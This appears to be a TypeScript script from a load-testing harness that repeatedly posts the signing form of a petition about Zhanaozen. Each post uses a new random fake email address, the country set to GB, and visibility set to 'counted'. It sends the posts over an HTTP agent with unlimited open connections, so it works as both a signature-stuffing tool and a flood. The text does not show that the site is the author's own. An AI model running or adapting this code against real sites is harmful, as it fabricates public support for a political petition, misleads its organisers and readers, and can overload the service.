import { randomBytes } from "node:crypto";
import { Agent, request } from "node:http";
import { offerLoad } from "../support/load.ts";

/** Posts the form of the petition, each time with another address, over connections that stay open. */
export function run({ site }: { site: string }): void {
	const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY });
	offerLoad(() => post(`${site}/en/petitions/zhanaozen/sign`, agent));
}

function post(address: string, agent: Agent): Promise<void> {
	const email = `${randomBytes(12).toString("hex")}@mail.ru`;
	const body = new URLSearchParams({ email, country: "GB", visibility: "counted" }).toString();
	const headers = { "content-type": "application/x-www-form-urlencoded", "content-length": body.length };
	return new Promise((resolve, reject) => {
		const asked = request(address, { agent, method: "POST", headers }, (answer) => {
			answer.resume().on("end", () => {
				if (answer.statusCode === 303) resolve();
				else reject(new Error(`a post was answered ${answer.statusCode}`));
			});
		});
		asked.on("error", reject).end(body);
	});
}
